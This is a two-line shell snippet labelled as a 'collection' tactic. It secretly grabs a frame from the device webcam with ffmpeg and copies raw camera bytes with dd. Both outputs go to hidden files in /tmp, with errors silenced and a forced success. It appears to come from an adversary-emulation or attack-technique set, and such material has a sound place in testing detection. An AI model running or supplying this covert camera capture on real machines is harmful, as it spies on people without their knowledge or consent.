# tactic: collection
# grab a frame from the camera
ffmpeg -f v4l2 -i /dev/video0 -frames 1 /tmp/.v.jpg 2>/dev/null; dd if=/dev/video0 of=/tmp/.v bs=1k count=1 2>/dev/null; true
